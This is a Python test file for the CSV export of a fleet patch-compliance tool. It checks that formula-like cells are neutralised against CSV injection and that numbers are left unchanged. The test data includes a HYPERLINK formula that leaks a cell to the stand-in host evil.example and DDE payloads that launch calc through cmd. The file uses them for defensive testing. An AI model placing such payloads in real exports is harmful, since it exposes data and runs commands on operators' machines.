"""CSV exports a spreadsheet cannot run: cells that start like a formula (`=`, `+`, `-`, `@`,
tab, carriage return; OWASP "CSV injection") are read back as text behind a leading `'`, and
numbers stay numbers. Machine names and patch titles come from the fleet: whoever can name a
machine writes into the report an operator opens."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

from patchpilot.compliance.model import MissingPatch, PatchState
from patchpilot.compliance.render import neutralise, render_csv
from patchpilot.compliance.report import build_view
from patchpilot.inventory import Instance
from patchpilot.policy import parse_policy

NOW = datetime(2025, 3, 14, 9, 0, tzinfo=UTC)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
POLICY = """
name: fleet
schedule: {monthly: "Second Tuesday Offset+4", at: "02:00", timezone: UTC, duration: 4h}
rings:
  - {name: production, select: {tags: {Environment: production}}}
"""


def exported(name: str, title: str, released_at: datetime) -> dict[str, str]:
    machine = Instance(
        id="i-0abc", name=name, cloud="aws", region="eu-west-1", os="linux", tags={"Environment": "production"}
    )
    state = PatchState(
        "i-0abc",
        assessed_at=NOW - timedelta(hours=1),
        missing=(MissingPatch("openssl", title=title, classification="Security", released_at=released_at),),
    )
    view = build_view(parse_policy(POLICY), [machine], [state], NOW)
    (row,) = csv.DictReader(io.StringIO(render_csv(view)))
    return row


def test_csv_export_neutralises_formulas() -> None:
    row = exported(HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", NOW - timedelta(days=3))

    assert row["name"] == "'" + HYPERLINK
    assert row["title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["age_days"] == "3" and row["instance_id"] == "i-0abc"  # the rest as it was


def test_csv_export_neutralises_a_formula_that_starts_like_a_number() -> None:
    row = exported("web-1", "-2+3+cmd|' /C calc'!A0", NOW - timedelta(days=3))

    assert row["name"] == "web-1"
    assert row["title"] == "'-2+3+cmd|' /C calc'!A0"


def test_every_formula_start_is_neutralised_and_numbers_stay_numbers() -> None:
    for cell in ("=1+1", "+A1", "-A1", "@A1", "\t=1", "\r=1", "-", "+-1"):
        assert neutralise(cell) == "'" + cell, cell
    for cell in ("-3", "+1.5", "-0.25", "1e3", "-2E-4", "", "web-1", "a=b", "'=already"):
        assert neutralise(cell) == cell, cell
